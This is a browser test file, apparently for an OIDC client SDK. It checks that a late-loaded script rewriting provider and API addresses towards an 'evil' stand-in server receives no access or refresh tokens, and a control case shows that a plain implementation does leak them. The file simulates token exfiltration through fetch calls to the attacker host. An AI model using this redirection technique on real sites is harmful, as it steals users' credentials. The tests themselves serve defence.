// Browser tests: a late script that bends every address it meets towards its own server gets no token there.
import { familyNames } from './app/late/family-names.ts'
import { expect, letTimePass, openSignedIn, outcome, test, type Tab } from './fixtures.ts'
import type { Api } from './servers/api.ts'
import type { Evil } from './servers/evil.ts'
import type { HostileProvider } from './servers/hostile-provider.ts'

type Family = (typeof familyNames)[number]
type Stage = { op: HostileProvider; api: Api; evil: Evil; tab: Tab }

/** Calls the evil server while addresses are bent: the first call may bend the list of resources, the second would get through. */
function stray({ op, api, evil, tab }: Stage, family: Family): Promise<(number | string)[]> {
  return tab.evaluate(
    async (asked) => {
      window.spyOn(asked.family)
      window.startBending([asked.op, asked.api], asked.evil)
      const first = await window.statusOf(window.oidc.fetch(`${asked.evil}/orders`))
      const second = await window.statusOf(window.oidc.fetch(`${asked.evil}/orders`))
      window.stopSpying()
      return [first, second]
    },
    { family, op: op.origin, api: api.origin, evil: evil.origin },
  )
}

/** Lets the page work while addresses of the provider and the API are bent, and tells which tokens arrived. */
async function bend({ op, api, evil, tab }: Stage, family: (typeof familyNames)[number]): Promise<string[]> {
  const challenge = { 'WWW-Authenticate': 'Bearer error="invalid_token"' }
  api.switches.once = [{}, { status: 401, headers: challenge }]
  await tab.evaluate(
    async (asked) => {
      window.spyOn(asked.family)
      window.startBending([asked.op, asked.api], asked.evil)
      await window.exercise(asked.api)
      window.stopSpying()
    },
    { family, op: op.origin, api: api.origin, evil: evil.origin },
  )
  const arrived = evil.log.map(({ headers, body, query }) =>
    JSON.stringify({ headers, body, query: query.toString() }),
  )
  const tokens = op.secrets.filter(({ cargo }) => /^(access|refresh) token$/.test(cargo))
  return tokens.filter(({ value }) => arrived.some((text) => text.includes(value))).map(({ cargo }) => cargo)
}

for (const family of familyNames) {
  test(`${family}: no token arrives where addresses are bent to`, async ({ op, app, api, evil, tab }) => {
    await app.bootWith('late/sdk.ts')
    op.switches.accessToken.lifetime = 300
    await tab.takeClock()
    expect(await openSignedIn(tab)).toMatchObject({ status: 'signed-in' })
    const unlisted = 'OIDC_RESOURCE_NOT_LISTED'
    expect(await stray({ op, api, evil, tab }, family)).toEqual([unlisted, unlisted])
    await letTimePass({ tab, op }, 301)
    expect(await bend({ op, api, evil, tab }, family)).toEqual([])
  })
}

for (const family of ['URL', 'fetch', 'Request'] as const) {
  test(`${family}: the control's tokens arrive there`, async ({ op, app, api, evil, tab }) => {
    await app.bootWith('late/plain.ts')
    await tab.goto('/')
    await tab.waitForURL((url) => url.searchParams.has('code'))
    await tab.evaluate(async () => void (await window.plain))
    expect(await bend({ op, api, evil, tab }, family)).not.toEqual([])
    await outcome(tab)
  })
}
